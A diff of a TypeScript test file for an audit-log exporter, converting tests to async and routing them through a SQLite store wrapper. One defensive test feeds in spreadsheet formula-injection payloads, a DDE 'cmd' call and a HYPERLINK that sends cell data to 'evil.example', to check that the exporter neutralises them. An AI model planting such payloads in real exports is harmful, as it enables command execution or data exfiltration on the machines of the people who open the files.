@@ -1,15 +1,21 @@
+import type { Database } from "better-sqlite3";
 import { describe, expect, it } from "vitest";
 import { CSV_COLUMNS, exportAudit, parseActor } from "../../src/audit/export-audit.js";
 import { appendAudit } from "../../src/store/audit-log.js";
+import { createSqliteStore } from "../../src/store/create-sqlite-store.js";
 import { openDatabase } from "../../src/store/open-database.js";
 import { tempDbPath } from "../helpers/temp-db.js";
 import { ACCOUNT_ID, addAccount, decide, OWNER, seededDb, USER_NAME } from "./seed-audit.js";
 
-function collect(run: (write: (chunk: string) => void) => void): { text: string; chunks: string[] } {
+async function collect(
+  run: (write: (chunk: string) => void) => Promise<unknown>,
+): Promise<{ text: string; chunks: string[] }> {
   const chunks: string[] = [];
-  run((chunk) => chunks.push(chunk));
+  await run((chunk) => chunks.push(chunk));
   return { text: chunks.join(""), chunks };
 }
+
+const auditOf = (db: Database) => createSqliteStore(db).audit;
 
 /** A strict RFC 4180 parser: quoted fields may hold commas, doubled quotes and line breaks. */
 function parseCsv(text: string): string[][] {
@@ -70,10 +76,10 @@ function csvObjects(text: string): Record<string, string>[] {
 }
 
 describe("exportAudit as JSON lines", () => {
-  it("writes one object per line with what an auditor needs", () => {
+  it("writes one object per line with what an auditor needs", async () => {
     const db = seededDb();
-    const { text } = collect((write) =>
-      expect(exportAudit(db, { format: "json" }, write)).toEqual({ decisions: 2, entries: 5 }),
+    const { text } = await collect(async (write) =>
+      expect(await exportAudit(auditOf(db), { format: "json" }, write)).toEqual({ decisions: 2, entries: 5 }),
     );
     expect(text.endsWith("\n")).toBe(true);
     const lines = text.trimEnd().split("\n");
@@ -133,10 +139,10 @@ describe("exportAudit as JSON lines", () => {
     expect(Object.keys(disable)).toEqual(Object.keys(keep));
   });
 
-  it("keeps only what happened at or after since", () => {
+  it("keeps only what happened at or after since", async () => {
     const db = seededDb();
-    const { text } = collect((write) =>
-      exportAudit(db, { format: "json", since: new Date("2026-11-12T10:00:00Z") }, write),
+    const { text } = await collect((write) =>
+      exportAudit(auditOf(db), { format: "json", since: new Date("2026-11-12T10:00:00Z") }, write),
     );
     const records = text
       .trimEnd()
@@ -150,19 +156,23 @@ describe("exportAudit as JSON lines", () => {
     expect(records.every((r) => r.at >= "2026-11-12T10:00:00.000Z")).toBe(true);
   });
 
-  it("exports an empty database as nothing, and a CSV as its header alone", () => {
+  it("exports an empty database as nothing, and a CSV as its header alone", async () => {
     const db = openDatabase(tempDbPath());
-    expect(collect((write) => exportAudit(db, { format: "json" }, write)).chunks).toEqual([]);
-    expect(collect((write) => exportAudit(db, { format: "csv" }, write)).text).toBe(
+    expect((await collect((write) => exportAudit(auditOf(db), { format: "json" }, write))).chunks).toEqual(
+      [],
+    );
+    expect((await collect((write) => exportAudit(auditOf(db), { format: "csv" }, write))).text).toBe(
       `${CSV_COLUMNS.join(",")}\r\n`,
     );
   });
 });
 
 describe("exportAudit as CSV", () => {
-  it("round-trips commas, quotes and line breaks through an RFC 4180 parser", () => {
+  it("round-trips commas, quotes and line breaks through an RFC 4180 parser", async () => {
     const db = seededDb();
-    const rows = csvObjects(collect((write) => exportAudit(db, { format: "csv" }, write)).text);
+    const rows = csvObjects(
+      (await collect((write) => exportAudit(auditOf(db), { format: "csv" }, write))).text,
+    );
     expect(rows).toHaveLength(7);
 
     const keep = rows.find((r) => r.type === "decision" && r.action === "keep");
@@ -199,7 +209,7 @@ describe("exportAudit as CSV", () => {
     expect(JSON.parse(refused?.detail ?? "")).toMatchObject({ ownerEmail: OWNER });
   });
 
-  it("neutralises cells a spreadsheet would run as formulas", () => {
+  it("neutralises cells a spreadsheet would run as formulas", async () => {
     const db = openDatabase(tempDbPath());
     addAccount(db, "f00d", "@SUM(1+1)*cmd|' /C calc'!A0");
     const hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")';
@@ -218,7 +228,7 @@ describe("exportAudit as CSV", () => {
       subject: "servicenow:f00d",
       detail: { action: "disable", error: "\t=1+1", reason: "-2+3" },
     });
-    const text = collect((write) => exportAudit(db, { format: "csv" }, write)).text;
+    const { text } = await collect((write) => exportAudit(auditOf(db), { format: "csv" }, write));
     const rows = csvObjects(text);
     const decision = rows.find((r) => r.type === "decision");
     expect(decision).toMatchObject({
@@ -237,7 +247,7 @@ describe("exportAudit as CSV", () => {
 });
 
 describe("exportAudit on a large log", () => {
-  it("streams 20,000 entries in many bounded chunks", () => {
+  it("streams 20,000 entries in many bounded chunks", async () => {
     const db = openDatabase(tempDbPath());
     addAccount(db, ACCOUNT_ID, USER_NAME);
     const start = Date.parse("2026-01-01T00:00:00Z");
@@ -253,7 +263,7 @@ describe("exportAudit on a large log", () => {
       }
     })();
     for (const format of ["json", "csv"] as const) {
-      const { chunks, text } = collect((write) => exportAudit(db, { format }, write));
+      const { chunks, text } = await collect((write) => exportAudit(auditOf(db), { format }, write));
       expect(chunks.length, format).toBeGreaterThan(40);
       expect(Math.max(...chunks.map((c) => c.length)), format).toBeLessThan(70 * 1024);
       const lines = text.split(format === "csv" ? "\r\n" : "\n").filter((l) => l !== "");
@@ -263,7 +273,7 @@ describe("exportAudit on a large log", () => {
 });
 
 describe("parseActor", () => {
-  it("splits chat actors on the first colon only, and keeps bare names whole", () => {
+  it("splits chat actors on the first colon only, and keeps bare names whole", async () => {
     expect(parseActor("slack:U123 <ann@acme.example>")).toEqual({
       platform: "slack",
       id: "U123",
